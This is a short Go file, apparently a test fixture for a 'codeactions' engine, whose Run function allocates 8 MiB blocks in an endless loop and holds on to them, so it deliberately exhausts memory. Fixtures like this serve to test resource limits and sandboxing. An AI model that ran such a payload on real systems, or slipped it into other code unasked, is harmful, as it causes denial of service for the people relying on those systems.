package main

import "codeactions"

var hog [][]byte

func Run(engine *codeactions.Engine) error {
	for {
		b := make([]byte, 8<<20)
		for i := range b {
			b[i] = 1
		}
		hog = append(hog, b)
	}
}
